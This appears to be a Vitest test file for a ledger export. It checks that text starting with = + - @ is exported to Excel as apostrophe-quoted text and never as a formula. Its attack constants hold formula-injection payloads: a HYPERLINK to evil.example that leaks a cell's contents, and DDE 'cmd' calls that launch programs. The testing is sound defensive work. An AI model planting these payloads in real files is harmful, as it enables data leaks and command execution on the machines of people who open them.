import { describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { schema } from '../../src/store/db.js';
import { readWorkbook } from '../../src/ledger/read.js';
import { applyImport, planImport } from '../../src/ledger/import.js';
import { exportWorkbook } from '../../src/ledger/export.js';
import { cellText, quoteFormulaText, unquoteFormulaText } from '../../src/ledger/cells.js';
import { useTestDb } from '../helpers/db.js';
import { realisticLedger, xlsx } from './fixture.js';

const { projects } = schema;

/*
 * Formula injection: an officer's text that starts with = + - @ must reach Excel as text, never as a formula, in the
 * export the mechanism office opens and forwards; and an exported ledger imported again keeps the text as typed.
 */
describe('ledger export: user text is never a formula', () => {
  const t = useTestDb();

  const ATTACKS = {
    name: '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    investor: "@SUM(1+1)*cmd|' /C calc'!A0",
    investorRegion: '+86-431',
    note: "-2+3+cmd|' /C notepad'!A0",
  };

  it('writes = + - @ text with Excel’s apostrophe, as a string cell, and reads it back as typed', async () => {
    const plan = await planImport(t.db, await readWorkbook(await xlsx(realisticLedger(5).sheets)), 'operator');
    expect(plan.errors).toEqual([]);
    await applyImport(t.db, plan, { today: '2026-05-20' });
    const [p] = await t.db.select().from(projects).limit(1);
    await t.db.update(projects).set(ATTACKS).where(eq(projects.id, p!.id));

    const buf = await exportWorkbook(t.db);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((c) => cells.push(c)));
    for (const value of Object.values(ATTACKS)) {
      const cell = cells.find((c) => typeof c.value === 'string' && c.value.endsWith(value));
      expect(cell, value).toBeDefined();
      expect(cell!.type, value).toBe(ExcelJS.ValueType.String);
      expect(cell!.formula, value).toBeUndefined();
      expect(cell!.value, value).toBe(`'${value}`);
    }
    // No cell of the file is a formula, and no text cell starts with a formula character.
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    expect(cells.filter((c) => typeof c.value === 'string' && /^[=+\-@]/.test(c.value)).map((c) => c.value)).toEqual([]);

    // The reader takes the apostrophe off: the text round-trips as typed.
    for (const value of Object.values(ATTACKS)) expect(cellText(`'${value}`)).toBe(value);
  });

  it('leaves ordinary text alone, and an apostrophe before anything else', () => {
    for (const s of ['梅花鹿主题乐园', 'LY2026-001', '2026-05-20', "'单引号开头", '']) {
      expect(quoteFormulaText(s)).toBe(s);
      expect(unquoteFormulaText(s)).toBe(s);
    }
    expect(quoteFormulaText('=1+1')).toBe("'=1+1");
    expect(quoteFormulaText('\t=1')).toBe("'\t=1");
    expect(unquoteFormulaText("'@A1")).toBe('@A1');
  });
});
